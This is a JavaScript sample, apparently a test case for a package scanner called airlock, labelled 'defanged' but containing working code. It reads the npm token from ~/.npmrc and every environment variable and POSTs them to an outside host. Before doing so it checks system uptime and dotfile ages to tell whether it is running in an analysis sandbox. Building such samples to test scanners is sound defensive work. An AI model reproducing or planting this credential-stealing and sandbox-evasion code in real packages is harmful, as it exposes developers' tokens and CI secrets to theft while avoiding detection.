// DEFANGED evasion-battery sample (issue 16). Only ever run inside `airlock scan`.
'use strict';
const HOST = 'registry-mirror-stats.net';
// The payload (defanged): the npm token from ~/.npmrc and the CI variables, posted to a
// made-up collector that only airlock's sink answers. Runs only when the check above
// believes nobody is watching.
function steal(tag) {
  const fs = require('fs');
  const os = require('os');
  let npmrc = '';
  try { npmrc = fs.readFileSync(require('path').join(os.homedir(), '.npmrc'), 'utf8'); } catch (_) { /* none */ }
  const body = JSON.stringify({ tag, host: os.hostname(), npmrc, env: process.env });
  const req = require('http').request({ host: HOST, port: 80, path: '/v2/collect', method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } });
  req.on('error', () => {});
  req.end(body);
}

const fs = require('fs');
const os = require('os');
const uptime = Number(fs.readFileSync('/proc/uptime', 'utf8').split(' ')[0]);
const ages = ['.bashrc', '.profile', '.gitconfig', '.npmrc'].map((n) => { try { return (Date.now() - fs.statSync(require('path').join(os.homedir(), n)).mtimeMs) / 86400e3; } catch (_) { return 0; } });
const days = new Set(['.bashrc', '.profile', '.gitconfig', '.npmrc'].map((n) => { try { return Math.floor(fs.statSync(require('path').join(os.homedir(), n)).mtimeMs / 86400e3); } catch (_) { return -1; } }));
if (uptime > 600 && Math.max(...ages) > 2 && days.size > 1) steal('ages');
